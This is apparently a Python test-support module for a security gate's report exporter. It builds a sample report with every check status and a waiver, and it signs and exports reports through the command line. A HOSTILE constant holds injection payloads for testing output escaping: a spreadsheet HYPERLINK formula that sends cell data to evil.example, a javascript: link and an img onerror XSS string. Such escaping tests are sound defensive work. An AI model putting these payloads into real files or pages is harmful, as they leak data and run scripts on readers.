"""A report that holds something of everything, published, and its export by the command line."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

from click.testing import CliRunner, Result
from securesystemslib.signer import CryptoSigner  # type: ignore[attr-defined]  # it re-exports without __all__

from checks.model import Finding, Gate, Reason, Severity, Status
from cli import main
from reports.document import ReportDocument
from reports.files import write_atomically
from reports.keys import public_pem
from reports.waivers import Waiver
from reports.writer import Published, publish
from suites.unit.reports.report_samples import AUDIT, END, decided, document, policy, proofs, result, rule

# Each is what some reader would take for more than text.
HOSTILE = (
    '=HYPERLINK("http://evil.example/"&A1) | [click](javascript:alert(1)) <img src=x onerror=alert(1)> @security-team\n'
    "# heading ``` `code` ![x](http://evil.example/x.png) https://evil.example www.evil.example a@evil.example #17"
)
OWNER = "Dr. Ada <ada@example.org>"


def hostile() -> Finding:
    """A finding whose every text is `HOSTILE`."""
    return Finding(HOSTILE, ok=False, message=HOSTILE, remedy=HOSTILE, evidence=HOSTILE)


def mixed(run_id: str = "run-1") -> ReportDocument:
    """A report with a check of every status: two ways to be UNKNOWN, a waiver, and a hostile finding."""
    catalogue = (
        rule("legacy_protocols_refused", Severity.CRITICAL, violations=2),
        rule("hsts_sent"),
        rule("could_not_look", Severity.CRITICAL, control=AUDIT),
        rule("crashed", Severity.MEDIUM),
        rule("waived", Severity.LOW),
        rule("exempt"),
        rule("passes", gate=Gate.COMPLIANCE, control=AUDIT),
    )
    statuses = {"waived": Status.FAIL, "exempt": Status.NOT_APPLICABLE, "passes": Status.PASS}
    reasons = {"could_not_look": Reason.COULD_NOT_LOOK, "crashed": Reason.CRASHED}
    results = []
    for check in catalogue:
        name = check.id.removeprefix("room/")
        if name == "hsts_sent":
            results.append(result(check, Status.FAIL, hostile(), hostile()))
        elif name in reasons:
            results.append(result(check, Status.UNKNOWN, reason=reasons[name]))
        else:
            results.append(result(check, statuses.get(name, Status.FAIL)))
    exempt = ({"check": "room/exempt", "reason": "there are no containers"},)
    under = policy(gates=(Gate.SECURITY, Gate.COMPLIANCE), not_applicable=exempt, floor=0)
    waiver = Waiver(
        check="room/waived",
        owner=OWNER,
        justification="The old scanners are replaced in the spring.",
        expires=END.date() + timedelta(days=60),
    )
    decision = decided(catalogue, results, under=under, waivers=(waiver,))
    sample = document(run_id)
    return sample.model_copy(
        update={
            "selfproof": tuple(proofs(catalogue)),
            "decision": decision.verdict,
            "score": decision.score,
            "floor": decision.floor,
            **{
                name: getattr(decision, name)
                for name in ("rejections", "conditions", "gates", "checks", "controls", "waivers")
            },
        }
    )


@dataclass
class Exporter:
    """A signer with a folder for its reports, and the command that exports one."""

    directory: Path

    def __post_init__(self) -> None:
        """Make the key."""
        self.signer = CryptoSigner.generate_ed25519()
        write_atomically(self.private, self.signer.private_bytes, mode=0o600)
        write_atomically(self.public, public_pem(self.signer))

    @property
    def private(self) -> Path:
        """The signing key."""
        return self.directory / "gate.ed25519"

    @property
    def public(self) -> Path:
        """Its public half."""
        return self.directory / "gate.pub"

    def publish(self, made: ReportDocument) -> Published:
        """Sign and publish."""
        return publish(self.directory / "gate", made.identity.run_id, made, str(self.private))

    def run(self, folder: Path, name: str, *options: str) -> Result:
        """`report export`, whatever comes of it."""
        return CliRunner().invoke(
            main, ["report", "export", str(folder), "--key", str(self.public), "--format", name, *options]
        )

    def export(self, made: ReportDocument, name: str, *options: str) -> bytes:
        """The bytes of a report in a format."""
        done = self.run(self.publish(made).folder, name, *options)
        assert done.exit_code == 0, done.output
        return done.stdout_bytes
